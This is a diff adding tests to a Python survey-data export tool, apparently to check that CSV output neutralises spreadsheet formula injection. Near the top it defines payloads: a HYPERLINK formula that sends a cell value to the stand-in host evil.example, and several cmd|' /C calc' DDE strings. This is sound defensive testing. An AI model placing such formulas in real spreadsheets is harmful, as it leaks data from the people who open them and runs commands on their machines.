@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import html
 import json
 import math
 from pathlib import Path
@@ -276,6 +278,100 @@ def test_wide_csv_round_trips(data: ExportData, tmp_path: Path) -> None:
 def test_csv_without_bom(data: ExportData, tmp_path: Path) -> None:
     path = write_wide_csv(data, tmp_path / "wide.csv", bom=False)
     assert path.read_bytes().startswith(b"pseudonym,")
+
+
+# --- spreadsheet formulas (CSV injection) ------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'
+#: Text a spreadsheet program would run or read as a formula, one per trigger character (OWASP).
+FORMULAS = [
+    FORMULA,
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _with_answers(data: ExportData, changes: dict[tuple[str, str, str], object]) -> ExportData:
+    """``data`` with the answers at (pseudonym, wave, item) replaced; a str is a text answer."""
+    answers = data.answers.copy()
+    for (pseudonym, wave, item), value in changes.items():
+        row = (answers["pseudonym"] == pseudonym) & (answers["wave"] == wave) & (answers["item"] == item)
+        assert row.sum() == 1
+        column = "value_text" if isinstance(value, str) else "value_number"
+        answers.loc[row, column] = value
+    return dataclasses.replace(data, answers=answers)
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    """The cells exactly as written (no type guessing), as Excel's import sees them."""
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+@pytest.mark.parametrize("text", FORMULAS, ids=["hyperlink", "plus", "minus", "at", "tab", "cr"])
+def test_csv_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(
+    data: ExportData, tmp_path: Path, text: str
+) -> None:
+    data = _with_answers(
+        data,
+        {
+            ("P001", "T1", "comment.free-text"): text,
+            ("P002", "T1", "comment.free-text"): "-3",  # just a number: nothing to run
+            ("P003", "T1", "hours"): -3,  # a number column keeps its numbers
+        },
+    )
+    written = write_all(data, tmp_path, formats=("long_csv", "wide_csv", "person_csv", "sav", "parquet"))
+
+    safe = "'" + text.replace("\r", "\n")  # a CR of its own would end the row (see below)
+    long = {(r["pseudonym"], r["wave"], r["item"]): r["value"] for r in _csv_rows(written["long_csv"])}
+    assert long[("P001", "T1", "comment.free-text")] == safe
+    assert long[("P002", "T1", "comment.free-text")] == "-3"
+    assert long[("P003", "T1", "hours")] == "-3"
+    assert long[("P001", "T1", "hours")] == "36"
+    wide = {(r["pseudonym"], r["wave"]): r for r in _csv_rows(written["wide_csv"])}
+    assert wide[("P001", "T1")]["comment.free-text"] == safe
+    assert wide[("P002", "T1")]["comment.free-text"] == "-3" and wide[("P003", "T1")]["hours"] == "-3"
+    person = {r["pseudonym"]: r for r in _csv_rows(written["person_csv"])}
+    assert person["P001"]["comment.free-text_T1"] == safe and person["P003"]["hours_T1"] == "-3"
+    assert pd.read_csv(written["wide_csv"])["hours"].tolist()[-1] == -3  # still a number for pandas
+    assert all(len(r) == len(RESPONSE_COLUMNS) + len(ITEMS) for r in _csv_rows(written["wide_csv"]))
+
+    # SPSS and Parquet are not opened by spreadsheets: their text stays exactly as given
+    sav, _ = pyreadstat.read_sav(written["sav"])
+    assert sav["comment_free_text"].tolist()[0] == text
+    assert pq.read_table(written["parquet"]).to_pandas()["comment.free-text"].tolist()[0] == text
+
+
+def test_raw_text_csv_keeps_formulas_for_r_and_python(data: ExportData, tmp_path: Path) -> None:
+    data = _with_answers(data, {("P001", "T1", "comment.free-text"): FORMULA})
+    written = write_all(data, tmp_path, formats=("long_csv", "wide_csv"), raw_text=True)
+    assert _csv_rows(written["wide_csv"])[0]["comment.free-text"] == FORMULA
+    assert pd.read_csv(written["long_csv"], dtype={"value": "str"})["value"].tolist()[3] == FORMULA
+    assert _csv_rows(write_wide_csv(data, tmp_path / "w.csv", raw_text=True))[0]["comment.free-text"] == FORMULA
+    assert _csv_rows(write_wide_csv(data, tmp_path / "s.csv"))[0]["comment.free-text"] == "'" + FORMULA
+
+
+def test_a_carriage_return_inside_text_cannot_start_a_row(data: ExportData, tmp_path: Path) -> None:
+    """A lone CR ends a row in Excel and pandas; unquoted, it would smuggle a formula into a row of its own."""
+    data = _with_answers(data, {("P001", "T1", "comment.free-text"): "fine\r" + FORMULA})
+    for raw_text in (False, True):
+        path = write_wide_csv(data, tmp_path / f"wide-{raw_text}.csv", raw_text=raw_text)
+        rows = _csv_rows(path)
+        assert len(rows) == 5 and rows[0]["comment.free-text"] == "fine\n" + FORMULA
+        assert len(pd.read_csv(path)) == 5
+
+
+def test_codebook_says_how_csv_text_is_written(data: ExportData, tmp_path: Path) -> None:
+    safe = codebook_dict(data)["csv_text"]
+    assert safe["formulas_neutralised"] is True
+    assert "apostrophe" in safe["note"] and "SPSS" in safe["note"] and "Parquet" in safe["note"]
+    raw = codebook_dict(data, raw_text=True)["csv_text"]
+    assert raw["formulas_neutralised"] is False and "exactly as given" in raw["note"]
+    page = write_codebook_html(data, tmp_path / "c.html").read_text(encoding="utf-8")
+    assert "apostrophe" in page and html.escape(safe["note"]) in page
 
 
 # --- SPSS --------------------------------------------------------------------------------------
